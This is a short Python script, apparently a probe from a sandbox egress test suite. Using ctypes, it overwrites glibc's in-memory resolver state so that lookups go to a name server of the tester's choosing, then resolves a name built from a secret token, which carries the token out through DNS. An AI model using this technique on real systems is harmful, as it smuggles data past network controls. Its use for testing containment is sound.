"""Let the C library look up a name that is the message, at a name server of ours."""

import ctypes
import os

from _calls import LIBC
from _calls import address
from _way import TOKEN
from _way import attempt
from _way import port

#: Where glibc keeps (retrans, retry, options, number of servers, servers) of a thread (resolv.h).
RETRANS, RETRY, N_SERVERS, FIRST_SERVER = 0, 4, 16, 20


def go():
    """Name the server, look up; nobody answers, but it was asked."""
    os.environ.pop('RES_OPTIONS', None)
    state = getattr(LIBC, '__res_state')
    state.restype = ctypes.c_void_p
    LIBC.__res_init()
    start = state()
    for place, value in ((RETRANS, 1), (RETRY, 1), (N_SERVERS, 1)):
        ctypes.c_int.from_address(start + place).value = value
    ctypes.memmove(start + FIRST_SERVER, address(port('UDP')), 16)
    result = ctypes.c_void_p()
    LIBC.getaddrinfo(TOKEN + b'.example', None, None, ctypes.byref(result))


attempt(go)
